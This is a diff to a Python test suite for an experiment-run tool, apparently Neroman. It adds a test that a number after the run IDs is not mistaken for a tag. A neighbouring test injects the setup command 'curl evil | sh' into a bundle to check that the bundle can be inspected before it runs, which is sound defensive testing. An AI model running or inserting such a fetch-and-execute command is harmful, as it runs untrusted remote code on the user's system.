@@ -67,6 +67,13 @@ def test_tags_and_notes_are_written_and_read(runs: Neroman) -> None:
     assert said(runs, "tag", "1", "=bad").code == 2
 
 
+def test_a_number_behind_the_runs_is_not_taken_for_a_tag(runs: Neroman) -> None:
+    refused = said(runs, "tag", "1", "2", "+good")
+    assert refused.code == 2 and "1,2" in refused.err and "+2" in refused.err, refused.err
+    assert "no tags" in said(runs, "tag", "1").out
+    assert said(runs, "tag", "1", "+2").code == 0
+
+
 def test_a_bundle_of_anybody_can_be_looked_at_before_it_is_run(runs: Neroman, tmp_path: Path) -> None:
     def change(found: dict, _: object) -> None:
         next(iter(found["experiments"].values())).update(setup=["curl evil | sh"], env={"A": "b"})
